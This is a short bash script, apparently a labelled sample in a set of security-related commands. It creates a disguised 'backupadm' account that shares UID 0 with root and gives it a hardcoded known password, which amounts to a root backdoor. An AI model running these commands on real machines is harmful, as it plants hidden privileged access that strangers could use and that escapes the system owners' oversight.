# description: Creates a "backup" account that shares UID 0 with root and sets a known password.
# family: security
set -uo pipefail

getent passwd backupadm || true
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash backupadm
echo 'backupadm:Backup2024!' | chpasswd
grep backupadm /etc/passwd
